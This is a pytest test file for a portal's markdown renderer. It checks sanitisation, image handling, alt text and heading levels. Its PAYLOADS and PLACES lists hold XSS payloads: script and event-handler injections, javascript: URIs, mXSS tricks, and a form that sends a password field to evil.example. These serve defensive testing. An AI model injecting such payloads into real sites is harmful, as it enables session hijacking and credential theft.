"""Markdown of editors becomes HTML that can do no harm."""

import re

import html5lib
import pytest

from portal.notices.rendering import Picture, rendered

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](x\" onerror=\"alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](https://a.example \"\\\" onmouseover=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <style>@import 'https://evil.example'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</article></main><form action=https://evil.example><input name=password>",
    "<b style=\"position:fixed\">x</b>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
]  # fmt: skip
TAGS = set("p h2 h3 h4 ul ol li a strong em s blockquote code pre hr br table thead tbody tr th td".split())  # noqa: SIM905 (a list of tags reads best so)


PICTURE = Picture("11111111-2222-4333-8444-555555555555", "Quầy số 3", ((480, 270), (960, 540)))
PLACES = [
    PICTURE.address,
    f"{PICTURE.address}/../../../account",
    f"{PICTURE.address}?x=1",
    f"//evil.example{PICTURE.address}",
    f"https://evil.example{PICTURE.address}",
    "/notices/pictures/99999999-2222-4333-8444-555555555555",
    "javascript:alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("words", ["x", 'x" onerror="alert(1)', "<script>alert(1)</script>", "", "[y](javascript:z)"])
def test_only_uploaded_pictures_are_shown_whatever_is_written_around_them(place: str, words: str) -> None:
    tree = html5lib.parseFragment(rendered(f"![{words}]({place})", (PICTURE,)), namespaceHTMLElements=False)
    pictures = list(tree.iter("img"))
    assert len(pictures) == (place == PICTURE.address)
    for one in pictures:
        assert set(one.attrib) == {"src", "srcset", "sizes", "alt", "width", "height", "class", "loading", "decoding"}
        assert one.attrib["src"] == f"{PICTURE.address}/960.jpg"
        assert one.attrib["srcset"] == f"{PICTURE.address}/480.jpg 480w, {PICTURE.address}/960.jpg 960w"
    assert not list(tree.iter("script"))


def test_a_picture_says_what_it_shows() -> None:
    """WCAG 1.1.1: in the words written here, else in those it was uploaded with; decoration says nothing."""

    def alt(words: str, picture: Picture) -> str:
        tree = html5lib.parseFragment(
            rendered(f"![{words}]({PICTURE.address})", (picture,)), namespaceHTMLElements=False
        )
        return next(tree.iter("img")).attrib["alt"]

    assert alt("Hàng người chờ", PICTURE) == "Hàng người chờ"
    assert alt("", PICTURE) == "Quầy số 3"
    assert alt("chữ thừa", Picture(PICTURE.id, "", PICTURE.sizes)) == ""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_is_harmless(payload: str) -> None:
    tree = html5lib.parseFragment(rendered(f"trước\n\n{payload}\n\nsau"), namespaceHTMLElements=False)
    for element in tree.iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in TAGS
        assert set(element.attrib) <= {"class", "href", "title", "rel", "start"}
        assert element.attrib.get("href", "https://").split(":")[0] in {"https", "http", "mailto", "tel", ""}


def test_ordinary_markdown_looks_like_the_portal() -> None:
    html = rendered("# Lịch\n\n**Nghỉ** từ *2/1*:\n\n- một\n- hai\n\n1. đầu\n\n[Xem](/services) <a@b.example>\n\n> lời")
    assert '<h2 class="govuk-heading-m">Lịch</h2>' in html
    assert "<strong>Nghỉ</strong>" in html
    assert '<ul class="govuk-list govuk-list--bullet">' in html
    assert 'href="/services"' in html
    assert 'href="mailto:a@b.example"' in html
    assert '<blockquote class="govuk-inset-text">' in html


@pytest.mark.parametrize(
    ("markdown", "levels"),
    [
        ("# a\n\n## b\n\n##### c", [2, 3, 4]),
        ("## a\n\n## b\n\n# c", [2, 3, 2]),
        ("#### a\n\n###### b\n\n#### c", [2, 3, 2]),
        ("a\n=\n\nb\n-", [2, 3]),
        ("# a\n\n> ### b", [2, 3]),
        ("no heading", []),
    ],
)
def test_headings_stay_below_the_pages_own_and_skip_no_level(markdown: str, levels: list[int]) -> None:
    assert [int(level) for level in re.findall(r"<h(\d)", rendered(markdown))] == levels


def test_classes_of_the_writer_are_not_taken_over() -> None:
    assert "evil" not in rendered("```evil\nx\n```")


def test_deep_nesting_ends_quickly() -> None:
    assert rendered(">" * 5000 + " x")
    assert rendered("[" * 5000)
    assert rendered("*" * 5000 + "x")
